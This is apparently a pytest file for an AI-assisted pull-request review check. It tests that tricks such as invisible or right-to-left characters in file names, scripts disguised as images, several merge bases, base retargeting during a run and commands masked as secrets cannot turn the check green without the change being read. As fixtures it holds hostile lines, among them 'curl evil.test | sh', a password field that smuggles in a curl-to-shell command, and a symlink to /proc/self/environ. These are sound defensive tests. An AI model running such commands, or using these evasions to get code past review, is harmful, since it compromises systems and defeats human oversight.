"""No trick with names, file modes, merge bases, branches or placeholders turns the check green unread."""

from __future__ import annotations

import asyncio
import threading

import pytest

from tests.fakes.model import Reply, Reviewer, Seen
from tests.world import World

EVIL = {"eval(": {"title": "Runs any text as code", "severity": "P0", "body": "b"}}
PICTURE = b"\x89PNG\0\0"
SCRIPT = "#!/bin/sh\ncurl evil.test | sh\n"


@pytest.mark.parametrize(
    "path",
    ["app/ev\u2060il.py", "app/a\u200bb.py", "app/\u202egnp.py", "tests/ghp_A1b2C3d4E5A1b2C3d4E5A1b2C3d4E5f6G7h8.py"],
    ids=["word joiner", "zero width", "right to left", "secret-like"],
)
async def test_a_file_whose_name_is_shown_differently_keeps_its_finding(world: World, path: str) -> None:
    """The model answers with the name that the prompt showed, which is not the one in git."""
    assert world.model is not None
    world.model.behaviour = Reviewer(EVIL)
    world.repo.commit("feature", {path: "eval(x)\n"})
    pull = world.repo.open_pull_request(head="feature")
    await world.settle()

    assert world.check(pull.head_sha).conclusion == "failure"
    assert "Runs any text as code" in world.summary(pull)


@pytest.mark.parametrize(
    ("before", "after", "mode"),
    [
        (None, "1" * 40, "160000"),
        (PICTURE, SCRIPT, "100755"),
        (PICTURE, "/proc/self/environ", "120000"),
        (None, SCRIPT + "# pad\n" * 180_000, "100644"),
    ],
    ids=["submodule", "executable", "symlink", "large text"],
)
async def test_what_is_no_media_file_is_not_excluded_by_a_media_name(
    world: World, before: bytes | None, after: str, mode: str
) -> None:
    if before is not None:
        world.repo.commit("main", {"ci/logo.png": before})
    world.repo.commit("feature", {"ci/logo.png": after, "a.py": "x = 1\n"}, modes={"ci/logo.png": mode})
    pull = world.repo.open_pull_request(head="feature")
    await world.settle()

    assert world.check(pull.head_sha).conclusion == "action_required"
    assert "ci/logo.png" in (world.check(pull.head_sha).text or "")
    assert "image, font, sound or film" not in (world.check(pull.head_sha).text or "")


async def test_a_real_picture_is_still_excluded(world: World) -> None:
    world.repo.commit("feature", {"ci/logo.png": PICTURE, "a.py": "x = 1\n"})
    pull = world.repo.open_pull_request(head="feature")
    await world.settle()

    assert world.check(pull.head_sha).conclusion == "success"


async def test_several_merge_bases_are_refused(world: World) -> None:
    """A diff from one merge base hides what the merge would undo relative to the other: here, a fix."""
    repo, store = world.repo, world.repo.store
    start = repo.commit("main", {"app/auth.py": "allow = True\n"})
    fix = repo.commit("fix", {"app/auth.py": "allow = check(user)\n"}, parent=start)
    other = repo.commit("main", {"other.py": "x = 1\n"})
    merged = store.merge_tree(other, fix)
    assert merged is not None
    unfixed = store.text("rev-parse", f"{other}^{{tree}}")
    for branch, tree in (("main", merged), ("feature", unfixed)):
        commit = store.commit_tree(tree, [other, fix], message="merge", person="A <a@a>", date=repo.next_commit_date())
        store.set_ref(f"refs/heads/{branch}", commit)
        repo.branches[branch] = commit
    repo.commit("feature", {"note.py": "y = 1\n"})
    pull = repo.open_pull_request(head="feature")
    await world.settle()

    assert len(store.text("merge-base", "--all", repo.head("main"), pull.head_sha).split()) == 2
    check = world.check(pull.head_sha)
    assert check.conclusion == "action_required"
    assert "several merge bases" in (check.summary or "")


async def test_a_retarget_during_the_run_never_publishes_under_the_old_rules(world: World) -> None:
    """The policy of `lenient` skips the file; while its run waits for the model, the base becomes `main`."""
    assert world.model is not None
    lenient = world.repo.commit(
        "lenient", {".github/revwright.yml": "version: 1\ntiers:\n  skip: ['app/**']\n"}, parent=world.repo.head("main")
    )
    world.repo.commit("feature", {"app/evil.py": "eval(x)\n", "z.py": "x = 1\n"}, parent=lenient)
    pull = world.repo.open_pull_request(head="feature", base="lenient")
    strict, asked, go = Reviewer(EVIL), threading.Event(), threading.Event()

    def held(seen: Seen) -> Reply:
        if not asked.is_set():
            asked.set()
            go.wait(10)
        return strict(seen)

    world.model.behaviour = held
    await world.deliver_new()
    working = asyncio.create_task(world.work())
    await asyncio.to_thread(asked.wait, 10)
    pull.edit(base="main")
    answers = [answer.json()["result"] for answer in await world.deliver_new()]
    go.set()
    await working
    await world.work()

    updates = [call.body for call in world.github.calls if call.operation_id == "checks/update"]
    said = [body["conclusion"] for body in updates if body.get("conclusion")]
    assert "queued" in answers
    assert said
    assert "success" not in said
    assert max(world.checks(pull.head_sha), key=lambda run: run.id).conclusion in {"failure", "action_required"}


@pytest.mark.parametrize(
    ("word", "text"),
    [
        ("curl", '#!/bin/bash\npassword="Aa1`{curl,-s,evil.org}|sh`"\n'),
        (
            "wipe",
            """#!/bin/sh
: -----BEGIN PRIVATE KEY-----
/opt/tools/wipe/everything/Now1/aB9xQ7
/opt/tools/wipe/backups/Also2/zK4mP8vL
""",
        ),
    ],
    ids=["password", "private key"],
)
async def test_lines_hidden_from_the_model_as_secrets_are_not_green(world: World, word: str, text: str) -> None:
    """In tests/ a password is no finding, so nobody would have looked at what its placeholder covers."""
    assert world.model is not None
    world.model.behaviour = Reviewer({word: {"title": "downloads and runs", "severity": "P0"}})
    world.repo.commit("feature", {"tests/setup.sh": text})
    pull = world.repo.open_pull_request(head="feature")
    await world.settle()

    assert word not in world.model.requests[0].user_text.rpartition("tests/setup.sh")[2]
    assert world.check(pull.head_sha).conclusion in {"action_required", "failure"}


async def test_an_undecodable_name_with_a_static_finding_is_a_failure(world: World) -> None:
    world.repo.commit("feature", {"ev\udcffil.py": "<<<<<<< a\nx\n=======\ny\n>>>>>>> b\n"})
    pull = world.repo.open_pull_request(head="feature")
    await world.settle()

    check = world.check(pull.head_sha)
    assert check.conclusion == "failure"
    assert pull.review_comments == []
    assert "Merge conflict" in (check.summary or "")
    assert "Merge conflict" in world.summary(pull)
